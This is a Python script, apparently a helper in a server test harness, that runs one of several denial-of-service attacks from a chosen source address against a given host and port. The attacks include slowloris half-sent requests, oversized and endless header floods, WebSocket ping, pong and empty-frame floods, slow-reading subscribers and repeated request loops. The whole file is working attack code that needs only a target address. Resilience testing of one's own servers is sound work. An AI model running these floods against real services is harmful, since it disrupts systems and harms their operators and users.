"""One address that means no good, as a process of its own: `attacker.py KIND HOST PORT ADDRESS …`.

It goes on until it is killed, comes back whenever it is closed, and says `begun` once it is at it.
"""

from __future__ import annotations

import base64
import contextlib
import os
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterator

HANDSHAKE = (
    b"GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\n\r\n"
)
NO_MASK = b"\0\0\0\0"
EMPTY_PART, PONG, PING = b"\x00\x80" + NO_MASK, b"\x8a\x80" + NO_MASK, b"\x89\x80" + NO_MASK
BEGINNING = b"\x01\x80" + NO_MASK  # of a message in parts


class Attack:
    """Many connections of one address, each with something to send for ever."""

    def __init__(self, host: str, port: int, address: str) -> None:
        self.where, self.address = (host, port), address
        self.selector = selectors.DefaultSelector()

    def connect(self, *, read_bytes: int | None = None) -> socket.socket | None:
        """A connection; None if there is none to be had."""
        line = socket.socket()
        if read_bytes is not None:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, read_bytes)
        try:
            line.bind((self.address, 0))
            line.settimeout(2)
            line.connect(self.where)
        except OSError:
            line.close()
            return None
        return line

    def web_socket(self, *, read_bytes: int | None = None) -> socket.socket | None:
        line = self.connect(read_bytes=read_bytes)
        if line is None:
            return None
        key = base64.b64encode(os.urandom(16))
        try:
            line.sendall(HANDSHAKE % (b"%s:%d" % (self.where[0].encode(), self.where[1]), key))
            if line.recv(1024).startswith(b"HTTP/1.1 101"):
                return line
        except OSError:
            pass
        line.close()
        return None

    def flood(self, count: int, open_one: Callable[[], socket.socket | None], data: bytes) -> None:
        """Keeps so many connections open and sends on each as much as it takes, reading nothing."""
        lines: set[socket.socket] = set()
        self.say("begun")
        while True:
            while len(lines) < count:
                line = open_one()
                if line is None:
                    time.sleep(0.05)
                    break
                line.setblocking(False)
                lines.add(line)
                self.selector.register(line, selectors.EVENT_WRITE)
            for key, _ in self.selector.select(0.05):
                ready = key.fileobj
                assert isinstance(ready, socket.socket)
                try:
                    ready.send(data)
                except BlockingIOError:
                    pass
                except OSError:
                    self.selector.unregister(ready)
                    lines.discard(ready)
                    ready.close()

    def say(self, word: str) -> None:
        print(word, flush=True)


def opened(attack: Attack, beginning: bytes) -> Callable[[], socket.socket | None]:
    def open_one() -> socket.socket | None:
        line = attack.web_socket()
        if line is not None:
            with contextlib.suppress(OSError):
                line.sendall(beginning)
        return line

    return open_one


def frames(attack: Attack, kind: str) -> None:
    """Frames that say nothing, on ten WebSockets."""
    frame = {"parts": EMPTY_PART, "pongs": PONG, "pings": PING}[kind]
    attack.flood(10, opened(attack, BEGINNING if kind == "parts" else b""), frame * 10_000)


def half_sent(attack: Attack) -> None:
    """1,300 requests that are never finished."""
    lines: list[socket.socket] = []
    while len(lines) < 1300:
        line = attack.connect()
        if line is not None:
            with contextlib.suppress(OSError):
                line.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
            lines.append(line)
    attack.say("begun")
    while True:
        time.sleep(1)


def headers(attack: Attack) -> None:
    """Headers without end."""
    line = b"X-Filler: " + b"x" * 4000 + b"\r\n"

    def open_one() -> socket.socket | None:
        begun = attack.connect()
        if begun is not None:
            with contextlib.suppress(OSError):
                begun.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        return begun

    attack.flood(4, open_one, line * 8)


def header(attack: Attack) -> None:
    """One header without end."""

    def open_one() -> socket.socket | None:
        begun = attack.connect()
        if begun is not None:
            with contextlib.suppress(OSError):
                begun.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Filler: ")
        return begun

    attack.flood(4, open_one, b"x" * 65_536)


def requests(attack: Attack, *paths: str) -> None:
    """Requests one after another, on eight connections; it says what they were answered with."""
    asked = [word.partition(":")[::2] for word in paths]
    seen: set[bytes] = set()

    def ask(line: socket.socket) -> Iterator[None]:
        while True:
            for method, path in asked:
                body = b'{"name":"X"}' if method == "POST" else b""
                line.sendall(
                    b"%s %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s"
                    % (method.encode(), path.encode(), len(body), body)
                )
                answer = line.recv(65_536)
                status = answer[9:12]
                if status not in seen:
                    seen.add(status)
                    attack.say(status.decode() or "closed")
                if not answer or b"connection: close" in answer:
                    return
                yield

    attack.say("begun")
    asking: list[tuple[socket.socket, Iterator[None]]] = []
    while True:
        if len(asking) < 8:
            line = attack.connect()
            if line is not None:
                asking.append((line, ask(line)))
        for one in list(asking):
            line, next_answer = one
            try:
                next(next_answer)
            except (StopIteration, OSError):
                asking.remove(one)
                line.close()


def deaf(attack: Attack, table: str) -> None:
    """Eight who watch a table, ask again and again to be shown it, and never read."""
    message = b'{"type":"attach","id":1,"table":"%s","protocol":3}' % table.encode()
    frame = b"\x81" + bytes([0x80 | len(message)]) + NO_MASK + message
    lines: list[socket.socket] = []
    attack.say("begun")
    while True:
        if len(lines) < 8:
            line = attack.web_socket(read_bytes=4096)
            if line is not None:
                lines.append(line)
        for line in list(lines):
            try:
                line.sendall(frame)
            except OSError:
                lines.remove(line)
                line.close()
        time.sleep(0.03)


def asks(attack: Attack, first: str, *again: str) -> None:
    """Eight who say one thing when they come, and then others again and again. They read."""
    lines: list[socket.socket] = []
    attack.say("begun")
    while True:
        if len(lines) < 8:
            line = attack.web_socket()
            if line is not None:
                line.sendall(text_frame(first))
                lines.append(line)
        for line in list(lines):
            try:
                for message in again:
                    line.sendall(text_frame(message))
                line.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while line.recv(1 << 16):
                        pass
                line.setblocking(True)
            except OSError:
                lines.remove(line)
                line.close()
        time.sleep(0.02)


def text_frame(message: str) -> bytes:
    data = message.encode()
    assert len(data) < 126
    return b"\x81" + bytes([0x80 | len(data)]) + NO_MASK + data


KINDS: dict[str, Callable[..., None]] = {
    "parts": lambda attack: frames(attack, "parts"),
    "pongs": lambda attack: frames(attack, "pongs"),
    "pings": lambda attack: frames(attack, "pings"),
    "half-sent": half_sent,
    "headers": headers,
    "header": header,
    "requests": requests,
    "deaf": deaf,
    "asks": asks,
}

if __name__ == "__main__":
    kind, host, port, address, *more = sys.argv[1:]
    KINDS[kind](Attack(host, int(port), address), *more)
